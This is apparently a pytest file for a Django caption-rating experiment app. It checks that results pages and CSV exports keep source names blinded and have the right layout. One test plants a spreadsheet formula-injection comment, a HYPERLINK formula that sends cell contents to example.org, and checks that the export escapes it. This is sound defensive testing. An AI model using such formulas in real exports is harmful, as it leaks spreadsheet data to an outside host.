"""Captions on the page of results and in files: what is shown to whom, and no name before unblinding."""

import csv
import io
from typing import Any
from urllib.parse import urlencode

import pytest
from django.test import Client

from protocols.thumbs.report.plot import means_plot
from rating.models import Experiment
from rating.services.experiments import unblind
from rating.services.votes import cast_vote
from stimuli.services.collections import add_stimulus, add_text, create_collection
from tests.analysis.p835_material import refresh
from tests.factories import make_experiment, make_user, seated_visit, tone, vote_event

pytestmark = pytest.mark.django_db

# None of these names may reach anybody before the experiment is unblinded.
SOURCES = {"secretdescriber": (4.0, 4.0, 0.0, 0.0, -0.5), "secretsystem": (1.0, 1.5, -2.0, -1.0, -1.0)}
SCALES = ("PRECISION", "RECALL", "FLUENCY", "CONCISENESS", "IRRELEVANCE")
CLIPS = {"harbour": ("D1", "no"), "market": ("D1", "no"), "station": ("D2", "yes"), "wood": ("D2", "yes")}


def caption_experiment() -> Experiment:
    owner = make_user()
    collection = create_collection(owner=owner, slug=f"captions-of-{owner.pk}", title="Captions")
    for number, (item, (dataset, synthesised)) in enumerate(CLIPS.items()):
        factors = {"dataset": dataset, "synthesised": synthesised}
        add_stimulus(
            collection=collection, item=item, condition="secretsound", content=tone(300 + number), factors=factors
        )
        for source in SOURCES:
            text = {"kind": "caption", "text": f"Words about {item}.", "tokens": None}
            add_text(collection=collection, item=item, condition=source, text=text)
    return make_experiment(owner, collection=collection, protocol="thumbs", seats=2)


def assess(experiment: Experiment, *, shift: float = 0.0, comment: str = "Well said.") -> None:
    """One assessor scores every caption of every clip and takes all clips for synthesised."""
    for place, trial in enumerate(seated_visit(experiment).seat.ballot.trials.order_by("position")):
        captions = {}
        for slot in trial.slots.exclude(key="clip").select_related("stimulus__condition"):
            scores = dict(zip(SCALES, SOURCES[slot.stimulus.condition.name], strict=True))
            scores["RECALL"] += shift + place % 2 / 2
            captions[slot.key] = {**scores, "comment": comment}
        payload = {"captions": captions, "synthesised": True, "finished": True}
        assert cast_vote(ballot_id=trial.ballot_id, event=vote_event(trial, payload=payload)).status == "stored"


@pytest.fixture(scope="module")
def shared_experiment(module_db: None) -> Experiment:
    made = caption_experiment()
    assess(made)
    assess(made, shift=0.5)
    refresh()
    return made


@pytest.fixture(scope="module")
def usual_page(shared_experiment: Experiment) -> str:
    return page(Client(), shared_experiment)


def page(client: Client, experiment: Experiment, **choices: str) -> str:
    client.force_login(experiment.owner)
    response = client.get(f"/experiments/{experiment.slug}/results/?{urlencode(choices)}")
    assert response.status_code == 200
    return response.content.decode()


def content(client: Client, experiment: Experiment, name: str) -> str:
    client.force_login(experiment.owner)
    response: Any = client.get(f"/api/v1/experiments/{experiment.slug}/results/thumbs/files/{name}")
    assert response.status_code == 200, name
    return (b"".join(response) if response.streaming else response.content).decode()


def rows(client: Client, experiment: Experiment, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content(client, experiment, name))))


def test_the_page_shows_every_table_and_names_no_source(usual_page: str) -> None:
    shown = usual_page
    assert "secret" not in shown
    for title in (
        "Scores by source",
        "Do sources differ?",
        "Agreement between assessors",
        "Bias and use of the scales",
    ):
        assert title in shown
    assert shown.count("<svg") >= 1
    assert "Do people hear what is synthesised?" in shown
    assert "4 of 8" in shown


def test_no_file_names_a_source_before_unblinding_and_every_file_does_after(
    client: Client, experiment: Experiment
) -> None:
    names = ("thumbs_long.csv", "thumbs_wide.csv", "thumbs_clips.csv", "thumbs.svg")
    assert not [name for name in names if "secret" in content(client, experiment, name)]
    opened = unblind(experiment=experiment, actor=experiment.owner, reason="test")
    assert not [name for name in names if "secretsystem" not in content(client, opened, name)]


def test_one_dataset_can_be_looked_at_by_itself(client: Client, experiment: Experiment, usual_page: str) -> None:
    assert 'id="dataset-2"' in usual_page
    shown = page(client, experiment, dataset="D2")
    assert 'aria-current="true">D2</a>' in shown
    assert 'aria-current="true">All</a>' in page(client, experiment, dataset="nonsense")


def test_the_wide_file_is_the_study_s_sheet(client: Client, experiment: Experiment) -> None:
    found = rows(client, unblind(experiment=experiment, actor=experiment.owner, reason="test"), "thumbs_wide.csv")
    assert len(found) == 2 * len(CLIPS) * len(SOURCES)
    hard = [row for row in found if row["condition"] == "secretsystem"]
    assert {row["fluency"] for row in hard} == {"-2.0"}
    assert min(float(row["overall"]) for row in hard) == pytest.approx(-2.75)
    assert {row["comment"] for row in found} == {"Well said."}
    assert {(row["no"], row["caption"]) for row in found} == {(str(n), str(c)) for n in range(1, 5) for c in (1, 2)}
    assert {row["synthesised"] for row in found} == {"yes"}


def test_the_long_file_has_a_row_a_score(client: Client, experiment: Experiment) -> None:
    found = rows(client, experiment, "thumbs_long.csv")
    assert len(found) == 2 * len(CLIPS) * len(SOURCES) * 6
    assert {row["scale"] for row in found} == {*SCALES, "OVERALL"}


def test_a_total_below_nothing_is_drawn_left_of_a_line_at_nothing() -> None:
    row = {"condition": "A", "scale": "OVERALL"}
    below, above = ([{**row, "mean": mean, "ci_low": mean - 1, "ci_high": mean + 1}] for mean in (-2.5, 2.5))
    assert 'class="zero"' in means_plot(below, ["A"])
    assert 'class="zero"' not in means_plot(above, ["A"])


def test_without_answers_the_page_says_so(client: Client) -> None:
    assert "No answers yet." in page(client, make_experiment(protocol="thumbs", conditions=1, seats=1))


def test_a_comment_is_no_formula_and_a_penalty_stays_a_number(client: Client) -> None:
    made = caption_experiment()
    assess(made, comment='=HYPERLINK("http://example.org/"&A1)')
    rows = list(csv.DictReader(io.StringIO(content(client, made, "thumbs_wide.csv"))))
    assert {row["comment"] for row in rows} == {'\'=HYPERLINK("http://example.org/"&A1)'}
    assert {row["irrelevance"] for row in rows} == {"-0.5", "-1.0"}
